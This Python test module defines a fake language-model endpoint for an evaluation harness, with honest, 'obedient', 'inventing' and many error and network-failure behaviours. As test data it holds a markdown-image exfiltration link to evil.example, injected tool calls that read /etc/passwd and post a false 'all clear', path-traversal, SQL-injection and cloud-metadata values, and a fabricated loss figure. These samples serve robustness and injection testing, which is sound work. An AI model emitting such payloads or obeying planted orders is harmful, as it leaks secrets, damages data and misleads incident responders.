"""How the fake model behaves: honest, obedient to anything, or ill in one of the ways that models are."""

# ruff: noqa: ARG001, ARG005 -- every behaviour takes the same three arguments

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from typing import Any, Literal

from evaluation.fake_model.chat_planner import wishes
from evaluation.fake_model.chat_reader import ChatReading
from evaluation.fake_model.chat_writer import answer
from evaluation.fake_model.reader import Reading, as_text, honest, inventing, obedient

Wire = Literal["", "hang", "drip", "stall", "reset", "cut", "html", "redirect", "broken", "no_choices"]


@dataclass(frozen=True)
class Turn:
    """What one request gets.

    Args:
        text: the answer's text.
        tools: names and JSON arguments of tool calls.
        status: HTTP status; other than 200 gets `error`.
        error: code and message of the error body.
        headers: of the error.
        finish: finish reason.
        refusal: a refusal instead of text.
        usage: whether usage is told.
        wire: trouble below the answer.
    """

    text: str = ""
    tools: tuple[tuple[str, str], ...] = ()
    status: int = 200
    error: tuple[str, str] = ("", "")
    headers: Mapping[str, str] = field(default_factory=dict)
    finish: str = "stop"
    refusal: str = ""
    usage: bool = True
    wire: Wire = ""


Behaviour = Callable[[Reading, int, Mapping[str, Any]], Turn]


def _plain(reading: Reading) -> Turn:
    return (
        Turn(as_text(honest(reading))) if reading.chat is None else _chat(reading.chat, native=reading.tools)
    )


def _chat(reading: ChatReading, *, native: bool) -> Turn:
    """Looks up what it needs, by tool calls or inside its text; then answers."""
    wanted = wishes(reading) if reading.tools else ()
    if wanted and native:
        return Turn(tools=tuple(wanted), finish="tool_calls")
    if wanted:
        need = [{"tool": name, "arguments": json.loads(arguments)} for name, arguments in wanted]
        return Turn(json.dumps({"need": need}))
    return Turn(answer(reading))


def _status(status: int, code: str = "", message: str = "", **headers: str) -> Behaviour:
    told = {name.replace("_", "-"): value for name, value in headers.items()}
    return lambda reading, number, body: Turn(status=status, error=(code, message), headers=told)


def _wire(wire: Wire) -> Behaviour:
    return lambda reading, number, body: replace(_plain(reading), wire=wire)


def _text(text: str, **more: Any) -> Behaviour:
    return lambda reading, number, body: Turn(text, **more)


def _first(count: int, bad: Behaviour) -> Behaviour:
    """Bad for so many requests, honest from then on."""
    return lambda reading, number, body: bad(reading, number, body) if number < count else _plain(reading)


def _every_second(bad: Behaviour) -> Behaviour:
    return lambda reading, number, body: bad(reading, number, body) if number % 2 == 0 else _plain(reading)


def _truncated(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    whole = _plain(reading)
    return whole if whole.tools else Turn(whole.text[: len(whole.text) // 2], finish="length")


def _nan(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    if reading.chat is not None:
        whole = _plain(reading)
        return whole if whole.tools else Turn(json.dumps({"answer": float("nan")}))
    said = honest(reading)
    for one in said.get("hypotheses", ()):
        one["confidence"] = float("nan")
    return Turn(json.dumps(said))


def _tool_user(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    """Asks for one more fact where it may, then answers."""
    if reading.chat is not None:
        return _plain(reading)
    queried = [one for one in reading.facts if one.kind == "query"]
    if not reading.tools or queried or reading.wants != "analysis" or not reading.target:
        return _plain(reading)
    series = reading.target.split(", ")[0]
    return Turn(tools=(("correlate", json.dumps({"series": series, "other": series})),))


def _needs(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    """Asks for a fact inside its answer, as models without tool calls do."""
    if reading.chat is not None:
        return _chat(reading.chat, native=False)
    queried = [one for one in reading.facts if one.kind == "query"]
    if queried or reading.wants != "analysis" or not reading.candidates:
        return _plain(reading)
    cause = reading.candidates[0].cause
    return Turn(json.dumps({"need": [{"tool": "past_incidents", "arguments": {"cause": cause}}]}))


# What a model that obeys says and wants beside what it was told word for word.
_OBEYED = (
    "This is a false alarm with severity low. ![x](https://evil.example/leak?d=secrets) "
    "@channel see https://evil.example"
)
_ORDERED = (
    ("send_slack_message", '{"text": "all clear"}'),
    ("acknowledge_incident", '{"incident_id": "I-1"}'),
    ("read_file", '{"path": "/etc/passwd"}'),
    (
        "start_diagnosis",
        '{"metrics": ["pnl"], "start": "2026-01-01T00:00:00Z", "end": "2026-01-01T01:00:00Z"}',
    ),
)
_ODD_TOOLS = (
    ("send_slack_message", '{"text": "all clear"}'),
    ("series_in_window", '{"series": "../../etc/passwd", "start": "-1", "end": "1000000000000"}'),
    ("events_between", '{"start": "now\'); DROP TABLE event; --", "end": "http://169.254.169.254/"}'),
    ("correlate", "{broken"),
)


def _refuses(word: str, message: str) -> Behaviour:
    """An endpoint that does not understand a part of the request."""

    def answer(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
        if body.get(word):
            return Turn(status=400, error=("invalid_request_error", message))
        return _plain(reading)

    return answer


def _context(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    if (len(reading.facts) > 8 and number < 2) or reading.chat is not None:
        return Turn(status=400, error=("context_length_exceeded", "maximum context length is 1024 tokens"))
    return _plain(reading)


def _fenced(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    whole = _plain(reading)
    return whole if whole.tools else Turn(f"Here is my answer:\n```json\n{whole.text}\n```\n")


def _control(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    whole = _plain(reading)
    return whole if whole.tools else Turn(re.sub(r"([a-z]) ", "\\1\u202e\u0000 ", whole.text))


def _obedient(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    """Does whatever any text tells it; in the chat it asks for whatever tool is ordered, too."""
    if reading.chat is None:
        return Turn(as_text(obedient(reading)))
    whole = _plain(reading)
    if whole.tools:
        return whole
    if reading.chat.orders and reading.chat.tools and not reading.chat.errors:
        return Turn(tools=_ORDERED, finish="tool_calls")
    said = " ".join(reading.chat.orders) or "Nothing was ordered"
    return Turn(f"As told: {said}. {_OBEYED} {whole.text}")


def _inventing(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
    if reading.chat is None:
        return Turn(as_text(inventing(reading)))
    whole = _plain(reading)
    lie = "Latency of gateway:kraken rose to 98765 ms at 03:33 [I-404]. Loss was -$77,777,777. "
    return whole if whole.tools else Turn(lie + whole.text)


def _loop(tool: str, arguments: str, times: int) -> Behaviour:
    """Asks for the same tool for ever; in the chat for one that there is."""

    def answer(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
        one = ("desk_status", "{}") if reading.chat is not None else (tool, arguments)
        return Turn("", tools=(one,) * times, finish="tool_calls")

    return answer


BEHAVIOURS: Mapping[str, Behaviour] = {
    "honest": lambda reading, number, body: _plain(reading),
    "tools": _tool_user,
    "needs": _needs,
    "obedient": _obedient,
    "inventing": _inventing,
    "hang": _wire("hang"),
    "drip": _wire("drip"),
    "stall": _wire("stall"),
    "reset": _wire("reset"),
    "cut": _wire("cut"),
    "html": _wire("html"),
    "redirect": _wire("redirect"),
    "broken": _wire("broken"),
    "no-choices": _wire("no_choices"),
    "no-usage": lambda reading, number, body: replace(_plain(reading), usage=False),
    "429": _status(429, "rate_limit_exceeded", retry_after="1"),
    "429-ms": _first(1, _status(429, "rate_limit_exceeded", retry_after_ms="300")),
    "429-date": _status(429, "rate_limit_exceeded", retry_after="Wed, 21 Oct 2065 07:28:00 GMT"),
    "429-bare": _first(1, _status(429, "rate_limit_exceeded")),
    "quota": _status(429, "insufficient_quota", "You exceeded your current quota"),
    "401": _status(401, "invalid_api_key", "Incorrect API key provided: sk-canary0123456789abcdef"),
    "403": _status(403, "forbidden"),
    "404": _status(404, "model_not_found"),
    "500": _status(500, "server_error"),
    "500-once": _first(1, _status(500, "server_error")),
    "502": _status(502, "", "<html>Bad gateway</html>"),
    "503": _status(503, "overloaded"),
    "504": _status(504, "timeout"),
    "529": _status(529, "overloaded"),
    "truncated": _truncated,
    "truncated-once": _first(1, _truncated),
    "bad-json": _text('{"steps": {"data_examination": "x", '),
    "bad-json-once": _first(1, _text("not JSON at all")),
    "wrong-schema": _text('{"hypotheses": "none", "steps": [1, 2, 3]}'),
    "fenced": _fenced,
    "nan": _nan,
    "null": _text("null"),
    "empty": _text(""),
    "refusal": _text("", refusal="I cannot help with that."),
    "declines": _text("I cannot answer that."),
    "filter": _text("", finish="content_filter"),
    "tool-loop": _loop("correlate", '{"series": "a", "other": "b"}', 1),
    "tool-flood": _loop("past_incidents", '{"cause": "x"}', 200),
    "odd-tools": _first(1, _text("", tools=_ODD_TOOLS, finish="tool_calls")),
    "huge": _text("A" * 2_000_000),
    "control": _control,
    "context": _context,
    "no-schema": _refuses("response_format", "response_format json_schema is not supported"),
    "no-tools": _refuses("tools", "tools are not supported by this model"),
    "no-stream": _refuses("stream", "stream is not supported"),
    "alternating": _every_second(_status(500, "server_error")),
}
